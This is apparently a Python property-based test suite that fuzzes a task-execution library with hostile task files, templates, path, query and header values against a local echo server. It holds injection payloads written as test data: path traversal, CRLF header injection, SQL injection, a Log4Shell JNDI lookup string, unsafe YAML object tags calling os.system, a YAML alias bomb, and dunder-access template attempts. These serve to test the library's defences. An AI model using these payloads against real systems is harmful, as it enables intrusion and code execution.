"""Hostile input costs nothing: generated task files, templates, arguments, URLs.

Hypothesis generates at least 1,000 cases per test per run, each run
through ``FiscusClient.execute`` against a real HTTP server on 127.0.0.1
that records every request it gets. A case either runs correctly (the
server got exactly the values given, or what the template reads) or fails
with a ``FiscusError`` that names the task and the field; a task that
fails sends nothing, and a call refused as a whole sends no request at
all, not even for its well-formed tasks.

The figures in docs/reliability.md come from::

    pytest -m reliability tests/reliability/test_hostile_input.py \\
        --hypothesis-show-statistics
"""

from __future__ import annotations

import collections
import functools
import json
import re
import threading
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Annotated, Final
from urllib.parse import unquote

import httpx
import pytest
import yaml
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError
from starlette.requests import Request
from starlette.responses import JSONResponse

from fiscus_dsl import (
    ArgumentValidationError,
    Connector,
    ConnectorError,
    FiscusClient,
    FiscusError,
    FiscusResponse,
    Header,
    Query,
    Runner,
    TaskDefinitionError,
    load_tasks_text,
)
from fiscus_dsl._sandbox import sandbox

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

    from starlette.types import ASGIApp, Receive, Scope, Send

CASES: Final = 1_000
HOSTILE: Final = settings(
    max_examples=CASES,
    deadline=None,
    database=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.filter_too_much,
    ],
)
ITEM: Final = {
    "id": "abc",
    "tags": ["red", "blue"],
    "nested": {"k": 1, "list": [{"x": "y"}, None, 2.5], "on": True},
    "empty": "",
}
TEMPLATE: Final = re.compile(
    r"\{\{\s*([A-Za-z_][\w#-]*)((?:\.[A-Za-z_]\w*|\[\d+\])*)\s*\}\}"
)
_STEP: Final = re.compile(r"\.([A-Za-z_]\w*)|\[(\d+)\]")
CASES_RUN: Final[collections.Counter[str]] = collections.Counter()
_ITEMS: Final = "/v1/items/"
_TEXT: Final = TypeAdapter(str)
_COUNT: Final = TypeAdapter(int)
_FILE_FIELDS: Final = frozenset({"file", "tasks", "format", "registry"})


# ---------------------------------------------------------------- the server


def counted(name: str) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """Fail a hypothesis test that ran fewer than ``CASES`` cases of ``name``."""

    def decorate(test: Callable[..., None]) -> Callable[..., None]:
        @functools.wraps(test)
        def run(*args: object, **kwargs: object) -> None:
            before = CASES_RUN[name]
            test(*args, **kwargs)
            ran = CASES_RUN[name] - before
            assert ran >= CASES, f"{name}: hypothesis ran {ran} cases, not {CASES}"

        return run

    return decorate


@dataclass
class Seen:
    """What the server got, request by request."""

    requests: list[dict[str, object]] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def count(self) -> int:
        with self.lock:
            return len(self.requests)

    def since(self, start: int) -> list[dict[str, object]]:
        with self.lock:
            return self.requests[start:]


def _app(seen: Seen) -> ASGIApp:
    """Answer GET /v1/items/{id} and POST /v1/notes, recording what arrived.

    Dispatched on the raw path by hand: a router's pattern would stop at a
    percent-encoded newline and hide what was really sent.
    """

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        request = Request(scope, receive)
        raw = scope["raw_path"].decode("ascii")
        record: dict[str, object]
        if request.method == "GET" and raw.startswith(_ITEMS):
            record = {
                "method": "GET",
                "item_id": unquote(raw.removeprefix(_ITEMS)),
                "q": request.query_params.getlist("q"),
                "tag": request.headers.get("x-tag"),
            }
            response = JSONResponse(ITEM)
        elif request.method == "POST" and raw == "/v1/notes":
            record = {"method": "POST", "body": json.loads(await request.body())}
            response = JSONResponse({"stored": True})
        else:
            record = {"method": request.method, "unexpected": raw}
            response = JSONResponse({"error": "no route"}, status_code=404)
        with seen.lock:
            seen.requests.append(record)
        await response(scope, receive, send)

    return app


@dataclass(frozen=True)
class Api:
    """The server's record and a client of its two operations."""

    seen: Seen
    client: FiscusClient

    def execute(self, tasks: Sequence[object]) -> FiscusResponse | FiscusError:
        try:
            return self.client.execute(tasks=tasks)
        except FiscusError as error:  # refused as a whole: the call sent nothing
            return error


@pytest.fixture(scope="module")
def api() -> Iterator[Api]:
    seen = Seen()
    with sandbox(_app(seen)) as base_url:
        # One transport for every run: the default one builds a TLS context
        # per run, which is what a thousand runs would time here.
        echo = Connector(
            "Echo", f"{base_url}/v1", transport=httpx.AsyncHTTPTransport(), timeout=10
        )

        @echo.operation("GET /items/{item_id}")
        def get_item(
            item_id: str,
            q: Annotated[str | None, Query()] = None,
            tag: Annotated[str | None, Header(alias="X-Tag")] = None,
        ) -> dict[str, object]:
            """Fetch one item."""
            raise NotImplementedError

        @echo.operation("POST /notes")
        def note(text: str, count: int = 0) -> dict[str, object]:
            """Store a note."""
            raise NotImplementedError

        yield Api(seen, FiscusClient(connectors=[echo], retries=0, runner=Runner()))


# ---------------------------------------------------------------- the oracle


def assert_names_task_and_field(error: BaseException, index: int | None) -> str:
    """Check a failure is a FiscusError naming the task and the field; return it."""
    assert isinstance(error, FiscusError), repr(error)
    message = str(error)
    if isinstance(error, TaskDefinitionError):
        assert error.field, message
        if error.index is None:  # the file or the call as a whole
            assert error.field in _FILE_FIELDS or f"{error.field!r}" in message
        else:
            assert error.index == index or index is None, message
            assert f"Task {error.index}" in message
            assert _shown(error.field) in message
        return f"TaskDefinitionError {error.field.split('.')[0]}"
    if isinstance(error, ArgumentValidationError):
        assert error.task_id, message
        assert error.fields, message
        assert all(_shown(name) in message for name in error.fields)
        return "ArgumentValidationError"
    assert isinstance(error, ConnectorError), repr(error)
    assert error.operation is not None
    assert re.search(r"(path parameter|header) '[^']+'", message), message
    return f"ConnectorError {error.code.name}"


def _shown(name: str) -> str:
    """Return how a message shows the start of a field's name: its repr, cut."""
    return repr(name)[:20]


def assert_outcome(
    api: Api, result: FiscusResponse | FiscusError, start: int, tasks: int
) -> list[dict[str, object]]:
    """Check every task ran or failed as it must; return the requests sent."""
    sent = api.seen.since(start)
    if isinstance(result, FiscusError):
        event(f"refused: {assert_names_task_and_field(result, None)}")
        assert sent == [], "a call refused as a whole sent a request"
        return sent
    responses = result.results or []
    assert len(responses) == tasks
    ran = 0
    for index, response in enumerate(responses):
        if response.skipped:
            event("a task skipped")
            continue
        if response.success:
            ran += 1
            continue
        assert response.error is not None
        assert (response.error_message or "").startswith(f"Task {index} ("), (
            response.error_message
        )
        event(f"failed: {assert_names_task_and_field(response.error, index)}")
    assert len(sent) == ran, "a task that failed sent a request"
    if ran:
        event("ran")
    return sent


# ---------------------------------------------------------------- strategies

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=40)
)
json_values = st.recursive(
    json_scalars,
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.text(max_size=10), inner, max_size=4)
    ),
    max_leaves=12,
)
hostile_text = st.text(max_size=80) | st.sampled_from(
    [
        "",
        ".",
        "..",
        "../../admin",
        "/etc/passwd",
        "a/b?c=d#e",
        "http://evil.example/x",
        "//evil.example",
        "%2e%2e%2f",
        "{{get_item.id}}",
        "{{",
        "}}",
        "a\r\nX-Injected: 1",
        "\x00",
        "\x7f",
        " padded ",
        "é ☃ \U0001d518",
        "\u2028",
        "'; DROP TABLE contacts; --",
        "${jndi:ldap://evil.example/a}",
        "__class__",
    ]
)


# ---------------------------------------------------------------- task arguments


counts = (
    st.integers()
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.from_regex(r"\s*[+-]?\d{1,6}\s*", fullmatch=True)
    | json_values
)


@st.composite
def note_params(draw: st.DrawFn) -> dict[str, object]:
    if draw(st.booleans()):  # near the signature: text, maybe count
        params: dict[str, object] = {"text": draw(hostile_text | json_values)}
        if draw(st.booleans()):
            params["count"] = draw(counts)
        return params
    names = draw(
        st.lists(
            st.sampled_from(["text", "count", "cc", "__class__", "Text"])
            | st.from_regex(r"[a-z]{1,8}", fullmatch=True),
            max_size=4,
            unique=True,
        )
    )
    return {name: draw(json_values | hostile_text) for name in names}


def expected_note(params: dict[str, object]) -> tuple[bool, object]:
    """Return whether the oracle knows the outcome, and the body sent (None: refused).

    The annotations decide, through the same pydantic validators the
    operation declares: ``text: str`` and ``count: int = 0``.
    """
    if any(
        isinstance(value, str) and TEMPLATE.search(value) for value in params.values()
    ):
        return False, None  # filled by the run: checked by the outcome alone
    if set(params) - {"text", "count"} or "text" not in params:
        return True, None
    try:
        text = _TEXT.validate_python(params["text"])
        count = _COUNT.validate_python(params.get("count", 0))
    except ValidationError:
        return True, None
    return True, {"text": text, "count": count}


@counted("task arguments")
@HOSTILE
@given(first=st.booleans(), params=note_params())
def test_generated_task_arguments_run_exactly_or_are_refused_unsent(
    api: Api, first: bool, params: dict[str, object]
) -> None:
    CASES_RUN["task arguments"] += 1
    tasks: list[object] = [{"connector": "Echo", "operation": "note", "params": params}]
    if first:  # a well-formed task first: it must not be sent either
        tasks.insert(
            0,
            {
                "connector": "Echo",
                "operation": "get_item",
                "id": "ok",
                "params": {"item_id": "ok"},
            },
        )
    start = api.seen.count()
    result = api.execute(tasks)
    known, expected = expected_note(params)
    sent = assert_outcome(api, result, start, len(tasks))
    if not known:
        return
    if expected is None:
        assert isinstance(result, FiscusError), f"{params!r} was not refused"
    else:
        assert isinstance(result, FiscusResponse), repr(result)
        assert result.success, result.error_message
        assert sent[-1] == {"method": "POST", "body": expected}


# ---------------------------------------------------------------- templates


def _resolve(name: str, path: str) -> tuple[bool, object]:
    """Read a template the way the contract says: keys and indexes of data."""
    if name != "get_item":
        return False, None
    value: object = ITEM
    for key, index in _STEP.findall(path):
        if key.startswith("_"):
            return False, None
        if key and isinstance(value, dict) and key in value:
            value = value[key]
        elif index and isinstance(value, list) and int(index) < len(value):
            value = value[int(index)]
        else:
            return False, None
    return True, value


def expected_text(text: str) -> str | None:
    """Return the text a template fills in, or None: the task must fail."""
    if "{{" not in text:
        return text
    matches = list(TEMPLATE.finditer(text))
    resolved = [_resolve(m.group(1), m.group(2)) for m in matches]
    if not all(found for found, _ in resolved):
        return None
    whole = TEMPLATE.fullmatch(text.strip())
    if whole is not None:
        value = resolved[0][1]
        return value if isinstance(value, str) else None  # text: str
    values = iter(value for _, value in resolved)
    return TEMPLATE.sub(lambda _: str(next(values)), text)


steps = st.one_of(
    st.sampled_from(
        [
            *(".id", ".tags", ".nested", ".k", ".list", ".x", ".on", ".empty"),
            *(".missing", ".request", ".headers", ".authorization", ".json"),
            *(".upper", ".text", ".__class__", ".__dict__", "._private"),
            *(".__init__", ".__globals__"),
        ]
    ),
    st.integers(0, 4).map(lambda index: f"[{index}]"),
)
template_names = st.sampled_from(["get_item", "first", "note", "missing", "__class__"])


@st.composite
def templates(draw: st.DrawFn) -> str:
    name = draw(template_names)
    path = "".join(draw(st.lists(steps, max_size=4)))
    inner = draw(st.sampled_from(["", " "]))
    template = f"{{{{{inner}{name}{path}{inner}}}}}"
    around = draw(st.sampled_from(["{}", "{} and more", "to: {}!", "{}{}", "{{{}}}"]))
    text = around.format(template, template)
    return draw(st.sampled_from([text, text, text, text.replace("}}", "}")]))


@counted("templates")
@HOSTILE
@given(text=templates())
def test_generated_templates_read_data_only_or_fail_unsent(api: Api, text: str) -> None:
    CASES_RUN["templates"] += 1
    tasks = [
        {"connector": "Echo", "operation": "get_item", "params": {"item_id": "a"}},
        {"connector": "Echo", "operation": "note", "params": {"text": text}},
    ]
    start = api.seen.count()
    result = api.execute(tasks)
    expected = expected_text(text)
    sent = assert_outcome(api, result, start, len(tasks))
    notes = [request for request in sent if request["method"] == "POST"]
    if expected is None:
        assert notes == [], f"{text!r} was sent: {notes!r}"
        event("template refused")
    else:
        assert notes == [{"method": "POST", "body": {"text": expected, "count": 0}}]
        event("template filled")


# ---------------------------------------------------------------- path, query, header


@counted("path and query")
@HOSTILE
@given(item_id=hostile_text, q=st.none() | hostile_text)
def test_generated_path_and_query_values_arrive_exactly_or_fail_unsent(
    api: Api, item_id: str, q: str | None
) -> None:
    CASES_RUN["path and query"] += 1
    params = {"item_id": item_id, "q": q}
    start = api.seen.count()
    result = api.execute(
        [{"connector": "Echo", "operation": "get_item", "params": params}]
    )
    sent = assert_outcome(api, result, start, 1)
    if "{{" in item_id or "{{" in (q or ""):
        return  # a template naming no earlier task: refused, checked above
    if item_id == "":
        assert sent == []
        return
    assert isinstance(result, FiscusResponse)
    assert result.success, result.error_message
    assert sent == [
        {
            "method": "GET",
            "item_id": item_id,
            "q": [] if q is None else [q],
            "tag": None,
        }
    ]


_HEADER_VALUE: Final = re.compile(r"(?:[\x21-\x7e](?:[ \t]*[\x21-\x7e])*)?")


@counted("headers")
@HOSTILE
@given(tag=hostile_text | st.text(st.characters(max_codepoint=0x7F), max_size=20))
def test_generated_header_values_arrive_exactly_or_fail_unsent(
    api: Api, tag: str
) -> None:
    CASES_RUN["headers"] += 1
    params = {"item_id": "a", "tag": tag}
    start = api.seen.count()
    result = api.execute(
        [{"connector": "Echo", "operation": "get_item", "params": params}]
    )
    sent = assert_outcome(api, result, start, 1)
    if "{{" in tag:
        return
    if _HEADER_VALUE.fullmatch(tag):
        assert isinstance(result, FiscusResponse)
        assert result.success, result.error_message
        assert sent == [{"method": "GET", "item_id": "a", "q": [], "tag": tag}]
    else:
        assert sent == []


# ---------------------------------------------------------------- task files

task_keys = st.sampled_from(
    [
        *("connector", "operation", "params", "id", "depends_on", "conditions"),
        *("custom_logic", "callbacks", "shell", "__class__", "eval"),
    ]
)
operations = st.sampled_from(["get_item", "note", "system", "__init__"])


@st.composite
def well_formed_tasks(draw: st.DrawFn) -> dict[str, object]:
    if draw(st.booleans()):
        params = draw(
            st.fixed_dictionaries(
                {"item_id": hostile_text},
                optional={"q": hostile_text, "tag": hostile_text},
            )
        )
        return {"connector": "Echo", "operation": "get_item", "params": params}
    note: dict[str, object] = {"text": draw(hostile_text | templates())}
    if draw(st.booleans()):
        note["count"] = draw(counts)
    return {"connector": "Echo", "operation": "note", "params": note}


@st.composite
def task_dicts(draw: st.DrawFn, earlier: list[str]) -> dict[str, object]:
    if draw(st.integers(0, 2)):
        task = draw(well_formed_tasks())
    else:
        task = {
            "connector": draw(st.sampled_from(["Echo", "Shell", ""])),
            "operation": draw(operations),
            "params": draw(
                st.dictionaries(
                    st.sampled_from(["item_id", "q", "tag", "text", "count"])
                    | st.text(max_size=10),
                    json_values | hostile_text,
                    max_size=3,
                )
            ),
        }
    if draw(st.integers(0, 3)) == 0:
        task["id"] = draw(st.sampled_from(["first", "second", "", "get_item", "a b"]))
    if draw(st.integers(0, 3)) == 0 and earlier:
        expression = draw(
            st.sampled_from(
                [
                    {"succeeded": earlier[-1]},
                    {"failed": earlier[0]},
                    {"eq": [f"{{{{{earlier[-1]}.id}}}}", "abc"]},
                    {"not": {"skipped": earlier[0]}},
                    {"fn": "__import__"},
                    {"eval": "1"},
                    "os.system('true')",
                ]
            )
        )
        task["conditions"] = {"if": expression}
    if draw(st.integers(0, 4)) == 0:
        task.setdefault(draw(task_keys), draw(json_values))
    return task


@st.composite
def task_files(draw: st.DrawFn) -> str:
    tasks: list[object] = []
    earlier: list[str] = []
    for _ in range(draw(st.integers(0, 3))):
        task = draw(task_dicts(earlier))
        tasks.append(task)
        earlier.append(str(task.get("id") or task["operation"]))
    document: object = draw(st.sampled_from([tasks, {"tasks": tasks}]))
    text = yaml.safe_dump(document, allow_unicode=draw(st.booleans()))
    if draw(st.integers(0, 2)):
        return text
    mutation = draw(
        st.sampled_from(
            [
                "!!python/object/apply:os.system ['true']\n",
                "bomb: &a [x, x, x]\nmore: [*a, *a, *a]\n",
                "- &x {connector: Echo}\n- *x\n",
                "a: !!python/name:os.system\n",
                "%YAML 1.1\n---\n",
                "{{",
                "\t",
                "\x00",
            ]
        )
    )
    starts = [0, *(i + 1 for i, char in enumerate(text) if char == "\n")]
    at = draw(st.sampled_from(starts) | st.integers(0, len(text)))
    return text[:at] + mutation + text[at:]


@counted("task files")
@HOSTILE
@given(text=task_files())
def test_generated_task_files_run_or_are_refused_naming_task_and_field(
    api: Api, text: str
) -> None:
    CASES_RUN["task files"] += 1
    start = api.seen.count()
    try:
        tasks = load_tasks_text(text, format="yaml")
    except TaskDefinitionError as error:
        event(f"file refused: {assert_names_task_and_field(error, None)}")
        assert api.seen.count() == start
        return
    result = api.execute(tasks)
    assert_outcome(api, result, start, len(tasks))
